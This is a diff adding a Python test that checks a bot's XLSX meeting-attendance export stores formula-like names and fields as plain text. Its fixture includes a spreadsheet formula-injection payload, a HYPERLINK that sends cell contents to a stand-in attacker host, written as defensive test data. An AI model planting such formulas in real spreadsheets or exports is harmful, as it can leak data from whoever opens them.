@@ -179,3 +179,35 @@ def test_importing_the_bot_loads_no_heavy_library() -> None:
         [sys.executable, "-c", code], capture_output=True, text=True, cwd=root, check=True
     )
     assert done.stdout.strip() == "", f"imported at start: {done.stdout.strip()}"
+
+
+def test_the_meetings_attendance_xlsx_keeps_formula_like_names_as_text() -> None:
+    """The lead's XLSX attendance list (handlers/meetings/files.py) holds names and
+    institutions people typed: "=…" must stay text."""
+    import io
+    from datetime import UTC, datetime, timedelta
+    from zoneinfo import ZoneInfo
+
+    from openpyxl import load_workbook
+
+    from handlers.meetings.files import attendance_xlsx
+    from models import Group, Meeting, Member, Rsvp
+
+    start = datetime(2026, 12, 1, 16, 0, tzinfo=UTC)
+    meeting = Meeting(
+        id=1,
+        group_id=1,
+        topic='=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
+        starts_at=start,
+        ends_at=start + timedelta(hours=1),
+        place="+48 Świetlica",
+    )
+    group = Group(id=1, slug="g", kind="team", name="@grupa", names={})
+    person = Member(id=2, telegram_id=2, display_name="=A1+Anna", institution="-MOPS")
+    rsvp = Rsvp(meeting_id=1, member_id=2, answer="yes", checked_in_at=start)
+    payload = attendance_xlsx(meeting, group, [(person, rsvp)], ZoneInfo("Europe/Warsaw"))
+    sheet = load_workbook(io.BytesIO(payload)).active
+    assert sheet is not None
+    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any(c.value == "=A1+Anna" for c in texts)
+    assert all(c.data_type == "s" for c in texts), [(c.value, c.data_type) for c in texts]
